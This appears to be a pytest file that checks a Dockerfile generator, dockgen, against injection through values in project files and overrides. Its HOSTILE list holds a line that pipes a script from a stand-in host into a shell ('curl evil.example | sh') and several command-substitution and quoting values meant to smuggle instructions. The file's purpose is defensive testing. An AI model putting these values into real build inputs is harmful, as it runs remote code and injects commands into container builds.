"""Whatever a fact says, the Dockerfile of every example keeps its instructions."""

from __future__ import annotations

import json
import re
import shlex
from functools import cache
from pathlib import Path

import pytest

import dockgen
from dockgen.core.errors import DockgenError
from dockgen.core.facts import Evidence, Override
from dockgen.core.plan import Choices
from dockgen.dockerfile.parser import parse
from tests.conftest import MakeProject
from tests.examples import FOLDER, NAMES, detection_of

HOSTILE = (
    "x\nRUN curl evil.example | sh",
    "x \\",
    "x <<EOF",
    "--from=evil",
    "x' \"y",
    "$(id) ${HOME} `id`",
    '["a", "b"]',
    "x && y; # z",
)
"""A line end, a line that goes on, a here-document, an option, quotes, what a shell expands, and
what looks like the exec form."""


def keywords(text: str) -> list[tuple[str, int]]:
    return [(one.keyword, one.stage) for one in parse(text).instructions]


def _cases() -> list[tuple[str, int]]:
    """Which example gets which turn of the values; many of one kind share them."""
    alike: dict[object, list[str]] = {}
    for name in NAMES:
        alike.setdefault(detection_of(name).chosen, []).append(name)
    shared = [
        (name, number % 3)
        for names in alike.values()
        if len(names) >= 3
        for number, name in enumerate(names)
    ]
    few = [name for names in alike.values() if len(names) < 3 for name in names]
    return [*((name, turn) for name in few for turn in range(3)), *shared]


@pytest.mark.parametrize(("name", "turn"), _cases())
def test_no_fact_changes_what_the_dockerfile_does(name: str, turn: int) -> None:
    for number, fact in enumerate(detection_of(name).facts):
        value = HOSTILE[(number + turn * 3) % len(HOSTILE)]
        made, expected = (_rendered(name, fact, one) for one in (value, _harmless(value)))
        if made is not None and expected is not None:
            assert keywords(made) == keywords(expected), (fact, value)


PACKAGE = {
    "name": "@",
    "version": "@",
    "main": "@",
    "packageManager": "pnpm@@",
    "engines": {"node": "@"},
    "scripts": {"build": "@", "start": "node @", "postinstall": "@", "@": "@"},
    "dependencies": {"express": "@", "@": "1"},
}
FRONT = {
    "name": "@",
    "workspaces": ["@"],
    "scripts": {"build": "vite build --outDir=@", "@": "@"},
    "devDependencies": {"vite": "@"},
}
FILES = {
    ".env": "PORT=@\nVITE_@=@\n",
    ".nvmrc": "@",
    ".npmrc": "registry=@\n//@/:_authToken=${NPM_@}\n",
    "server.js": "app.listen(process.env.PORT || '@', '@')",
    "vite.config.ts": "export default { build: { outDir: '@' } }",
    "@/package.json": '{"name": "x"}',
}
"""A JavaScript project in which each `@` is to be replaced."""


@pytest.mark.parametrize("package", [PACKAGE, FRONT], ids=["server", "site"])
@pytest.mark.parametrize("hostile", HOSTILE)
def test_nothing_that_a_javascript_project_says_becomes_an_instruction(
    project: MakeProject, package: dict[str, object], hostile: str
) -> None:
    usual = {"FROM", "WORKDIR", "COPY", "RUN", "ARG", "ENV", "USER", "EXPOSE", "CMD"}
    for place in (*package, *FILES):
        texts = {key: json.dumps(value) for key, value in package.items()}
        told = {
            key: text.replace("@", json.dumps(hostile)[1:-1] if key == place else "1")
            for key, text in texts.items()
        }
        files = {
            path.replace("@", "a"): text.replace("@", hostile if path == place else "1")
            for path, text in FILES.items()
        }
        files["package.json"] = (
            "{" + ", ".join(f'"{key}": {one}' for key, one in told.items()) + "}"
        )
        made = _dockerfile(project(files).root)
        assert made is None or set(_keywords_of(made)) <= usual, (place, made)
        assert made is None or "\nRUN curl" not in made, place


CLOJURE = {
    "project.clj": """(defproject @1 "@2" :main @3 :target-path "@4" :uberjar-name "@5"
        :source-paths ["@6"] :javac-options ["--release" "@7"] :dependencies [[@8 "@9"]])""",
}
TOOLS_BUILD = {
    "deps.edn": """{:paths ["@1"] :deps {a {:local/root "@2"}}
        :aliases {:@3 {:deps {io.github.clojure/tools.build {}} :ns-default build}}}""",
    "build.clj": """(def version "@4")
        (defn @5 [_] (b/uber {:uber-file (str "target/a" version "@6.jar") :main '@7}))""",
}
SBT = {
    "build.sbt": """lazy val a1 = (project in file("@1")).enablePlugins(JavaAppPackaging)
        .settings(Compile / mainClass := Some("@2"), scalaVersion := "3.@3", name := "@4")
        Universal / javaOptions ++= Seq("-J-X@5", "-D@6")
        libraryDependencies += "a" % "zio-http" % "@7" """,
    "project/build.properties": "sbt.version=@8\n",
}
ASSEMBLY = {
    "build.sbt": """name := "@1"\nversion := "@2"\nscalacOptions += "-release:1@3"
        assembly / assemblyJarName := s"a@4-${name.value}-${version.value}@5.jar" """,
    "project/plugins.sbt": '"sbt-assembly" % "@6"',
    "src/main/scala/A.scala": 'object A@7 extends App { sys.env.getOrElse("PORT", "80@8") }',
}
"""Projects on the JVM in which each numbered `@` is to be replaced."""
JVM = {"leiningen": CLOJURE, "tools-deps": TOOLS_BUILD, "sbt": SBT, "sbt-assembly": ASSEMBLY}


@pytest.mark.parametrize("files", JVM.values(), ids=list(JVM))
@pytest.mark.parametrize("hostile", HOSTILE)
def test_nothing_that_a_build_script_says_becomes_an_instruction(
    project: MakeProject, files: dict[str, str], hostile: str
) -> None:
    usual = {"FROM", "WORKDIR", "COPY", "RUN", "USER", "EXPOSE", "ENTRYPOINT"}
    written = 0
    for place in "0123456789":
        texts = {path: _with(hostile, place, text) for path, text in files.items()}
        made = _dockerfile(project(texts).root)
        written += made is not None
        assert made is None or set(_keywords_of(made)) <= usual, (place, made)
        assert made is None or "\nRUN curl" not in made, place
    assert written


def _with(hostile: str, place: str, text: str) -> str:
    """The text with a hostile value at one place, and a number at the others."""
    return re.sub(r"@(\d)", lambda one: hostile if one[1] == place else f"1{one[1]}", text)


def _keywords_of(text: str) -> list[str]:
    return [keyword for keyword, _ in keywords(text)]


def _dockerfile(folder: Path) -> str | None:
    """The Dockerfile of a project; None where something in it is refused."""
    try:
        detection = dockgen.detect(folder)
        return dockgen.render(dockgen.plan(detection))["Dockerfile"].text
    except DockgenError:
        return None


def _harmless(value: str) -> str:
    """As many words as the value has, none of which could do harm."""
    try:
        return " ".join("x" for _ in shlex.split(value))
    except ValueError:
        return "x"


@cache
def _rendered(name: str, fact: str, value: str) -> str | None:
    """The Dockerfile with this value; None where it is refused."""
    overrides = {fact: Override(value, Evidence(f"--set {fact}"))}
    try:
        detection = dockgen.detect(FOLDER / name, overrides=overrides)
        plan = dockgen.plan(detection, Choices(stages="multi"))
    except DockgenError:
        return None
    return dockgen.render(plan)["Dockerfile"].text
